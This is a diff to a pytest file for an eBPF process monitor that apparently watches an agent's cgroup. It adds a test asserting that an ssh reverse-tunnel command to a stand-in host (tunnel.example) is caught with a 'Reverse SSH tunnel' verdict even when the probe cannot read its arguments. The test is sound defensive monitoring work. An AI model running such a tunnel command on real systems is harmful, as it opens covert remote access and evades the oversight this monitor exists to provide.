@@ -13,7 +13,7 @@ import uuid
 
 import pytest
 
-from conftest import make_agent_cgroup, remove_cgroup_tree
+from conftest import REPO, make_agent_cgroup, remove_cgroup_tree
 from ebpfmon.config import Config
 from ebpfmon.events import ExecEvent, raw_bytes, text
 
@@ -69,6 +69,24 @@ def test_exec_limits_are_what_events_h_says(monitor, agent_cgroup):
     e = exec_of(monitor, agent_cgroup, lambda e: e.filename == "/bin/echo")
     assert e.argv == ["/bin/echo", *many[:63]]
     assert e.argv_truncated is True
+
+
+def test_argv_the_probe_cannot_read_comes_from_proc_and_the_rules_see_it(monitor, agent_cgroup, tmp_path):
+    launcher = tmp_path / "literal_exec"
+    subprocess.run(["gcc", "-O2", "-o", str(launcher), str(REPO / "tests/servers/literal_exec.c")], check=True)
+    proc = agent_cgroup.popen([str(launcher)], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
+    try:
+        child = int(proc.stdout.readline())
+        e = exec_of(monitor, agent_cgroup, lambda e: e.proc.pid == child)
+        assert e.filename == ""  # what the probe could read: nothing
+        assert e.argv_source == "proc" and e.argv_truncated is False
+        assert e.argv == ["ssh", "-o", "ProxyCommand=sleep 3", "-o", "BatchMode=yes", "-N", "-R",
+                          "2222:127.0.0.1:22", "agent@tunnel.example"]
+        assert e.proc.exe == "/usr/bin/ssh"
+        monitor.wait_for_verdict("Reverse SSH tunnel", agent_cgroup.name)
+    finally:
+        proc.kill()  # ssh and its proxy: killed with the agent cgroup
+        proc.wait()
 
 
 def test_failed_exec_shows_its_errno(monitor, agent_cgroup):
